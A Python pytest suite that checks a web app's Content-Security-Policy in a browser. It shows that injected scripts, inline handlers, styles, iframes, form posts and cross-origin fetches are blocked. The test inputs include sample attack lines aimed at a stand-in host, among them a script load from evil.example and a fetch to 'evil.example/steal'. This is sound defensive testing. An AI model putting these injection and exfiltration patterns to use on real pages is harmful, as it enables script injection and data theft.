"""The Content-Security-Policy, enforced by a browser."""

import pytest

pytestmark = pytest.mark.browser

# Does something, and tells of the violation that it caused.
VIOLATION_OF = """action => new Promise(resolve => {
    document.addEventListener("securitypolicyviolation",
        event => resolve([event.effectiveDirective, event.blockedURI, event.disposition]), { once: true });
    %s
})"""


def violation(page, action):
    return page.evaluate(VIOLATION_OF % action)


@pytest.mark.parametrize(
    ("action", "directive", "blocked"),
    [
        (
            "const s = document.createElement('script'); s.text = 'window.injected = true'; document.body.append(s)",
            "script-src-elem",
            "inline",
        ),
        (
            "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
            "script-src-elem",
            "https://evil.example/x.js",
        ),
        (
            "document.body.insertAdjacentHTML('beforeend', '<img src=\"data:,\" onerror=\"window.injected = true\">')",
            "script-src-attr",
            "inline",
        ),
        (
            "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">')",
            "style-src-attr",
            "inline",
        ),
        (
            "const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)",
            "frame-src",
            "https://evil.example",
        ),
    ],
)
def test_injected_content_is_blocked(page, action, directive, blocked):
    """A script or style that somebody smuggled into a page does not run, and the browser reports it."""
    page.route("https://evil.example/**", lambda route: route.fulfill(body="window.injected = true"))
    page.goto("/")
    assert violation(page, action) == [directive, blocked, "enforce"]
    assert page.evaluate("window.injected") is None


def test_connection_to_another_host_is_blocked(page):
    """A page connects to the distribution and to the hosts of the setting, and to nobody else."""
    reached = []
    headers = {"Access-Control-Allow-Origin": "*"}
    for host in ("evil.example", "api.github.com"):
        page.route(
            f"https://{host}/**", lambda route: (reached.append(route.request.url), route.fulfill(headers=headers))
        )
    page.goto("/")
    blocked = violation(page, "fetch('https://evil.example/steal').catch(() => {})")
    assert blocked == ["connect-src", "https://evil.example/steal", "enforce"]
    assert page.evaluate("fetch('https://api.github.com/users/octocat').then(answer => answer.status)") == 200
    assert page.evaluate("fetch('/').then(answer => answer.status)") == 200
    assert reached == ["https://api.github.com/users/octocat"]


def test_form_to_another_host_is_blocked(page):
    """A form's answers stay with the distribution."""
    page.goto("/")
    form = "const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f)"
    assert violation(page, f"{form}; f.submit()")[0] == "form-action"


def test_pages_cannot_be_framed(page):
    """No other page shows these in a frame."""
    page.goto("/")
    refused = page.evaluate("""async () => {
        const answer = await fetch("/");
        return [answer.headers.get("x-frame-options"), answer.headers.get("content-security-policy")];
    }""")
    assert refused[0] == "DENY"
    assert refused[1].endswith("frame-ancestors 'none'")
